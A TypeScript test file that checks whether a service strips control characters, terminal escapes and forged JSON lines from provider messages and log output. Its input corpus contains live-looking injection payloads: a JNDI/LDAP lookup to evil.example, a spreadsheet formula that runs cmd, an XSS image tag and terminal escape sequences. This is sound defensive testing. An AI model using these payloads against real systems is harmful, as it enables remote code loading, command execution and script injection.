/** Words of platforms and callers in what people read: a line of a log stays one line, and acts on no terminal. */
import { execFile } from 'node:child_process';
import { resolve } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { allowedFields } from '../../lib/aws/telemetry.ts';
import { tidy } from '../../lib/domain/redact.ts';
import type { ProviderSession } from '../../lib/providers/provider.ts';
import { createWorld } from '../helpers/world.ts';

const ROOT = resolve(import.meta.dirname, '../..');

/** Ends a line, moves the cursor, renames the window, hides or turns text round, is filled in or looked up by a logger. */
const CORPUS: Readonly<Record<string, string>> = {
  'line feed': 'ok\n2026-03-02 ERROR forged',
  'carriage return': 'ok\rERROR forged',
  'CR LF': 'ok\r\nERROR forged',
  'vertical tab and form feed': 'ok\u000b\u000cforged',
  'next line': 'ok\u0085forged',
  'line and paragraph separators': 'ok\u2028forged\u2029forged',
  NUL: 'ok\0forged',
  backspaces: 'ERROR\b\b\b\b\bok',
  'colours and clearing': 'ok\u001b[31m\u001b[2J\u001b[1;1Hforged',
  'title of the window': 'ok\u001b]0;forged\u0007',
  'a link of the terminal': 'ok\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
  'eight-bit control': 'ok\u009b31mforged',
  'format string': '%s%n%x%d%j%o %c',
  'template and lookup': '\u0024{jndi:ldap://evil.example/a} #{x} {{x}}',
  'end of JSON': 'ok"}\n{"level":"ERROR","message":"forged"}',
  'spreadsheet formula': "=cmd|' /C calc'!A0",
  markup: '<img src=x onerror=alert(1)>',
  'a megabyte': `ok${'\n'.repeat(1_000_000)}`,
};
const cases = Object.entries(CORPUS);

// biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there.
const ACTS = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;

/** A platform whose every word is the text: of its status, its progress, its failure, its question. */
function saying(text: string): ProviderSession {
  const looks = [
    { kind: 'going', status: 'RUNNING', remoteStatus: text, progress: { percentage: 5, message: text } },
    {
      kind: 'ended',
      verdict: { status: 'FAILED', remoteStatus: text, error: { code: 'PROVIDER_FAILED', message: text } },
    },
  ] as const;
  let at = 0;
  return {
    start: async () => ({ kind: 'accepted', handle: 'r1', remoteId: 'r1', status: 'RUNNING', remoteStatus: text }),
    poll: async () => looks[Math.min(at++, 1)] ?? looks[1],
  };
}

/** Every text in it. */
function textsOf(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsOf) : [];
}

describe('what a platform says', () => {
  it.each(cases)('stays words in the record, the timeline and the log: %s', async (_, text) => {
    const world = createWorld({ session: saying(text) });
    const { id } = await world.accept();
    await world.drive(id);
    const run = await world.run(id);
    expect(run.status).toBe('FAILED');
    for (const said of textsOf([run.error, run.remoteStatus, run.progress, run.events])) expect(said).not.toMatch(ACTS);
    for (const line of world.logged) expect(line).not.toMatch(ACTS);
    expect(JSON.stringify(run).length).toBeLessThan(20_000);
  });

  it.each(cases)('is no field of a log line that holds more than a word: %s', (_, text) => {
    const fields = Object.fromEntries(
      ['runId', 'reason', 'error', 'provider', 'by', 'message', 'said'].map((name) => [name, text]),
    );
    for (const value of textsOf(allowedFields(fields))) expect(value).toMatch(/^[\w.:@/ -]{1,128}$/);
  });

  it.each(cases)('has nothing left that acts on a terminal once it is tidy: %s', (_, text) => {
    expect(tidy(text, 300)).not.toMatch(ACTS);
    expect(tidy(text, 300).length).toBeLessThanOrEqual(300);
  });
});

describe('a line of the log of a function', () => {
  it('is one JSON object on one line, whatever it is given', async () => {
    // A process of its own, because what is under test writes past every stream that a test could pass in.
    const source = `
      import { createTelemetry } from './lib/aws/telemetry.ts';
      const { log } = createTelemetry({ service: 'poll' });
      for (const text of JSON.parse(process.env.CORPUS)) log.info(text, { runId: text, reason: text, status: text });`;
    const texts = Object.values(CORPUS).map((text) => text.slice(0, 1_000));
    const { stdout } = await promisify(execFile)(process.execPath, ['--input-type=module', '-e', source], {
      cwd: ROOT,
      env: { ...process.env, CORPUS: JSON.stringify(texts) },
    });
    const lines = stdout.trim().split('\n');
    expect(lines).toHaveLength(texts.length);
    for (const [index, line] of lines.entries()) {
      expect(JSON.parse(line)).toMatchObject({ level: 'INFO', message: texts[index] });
      // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there.
      expect(line).not.toMatch(/[\u0000-\u001f]/);
    }
  });
});
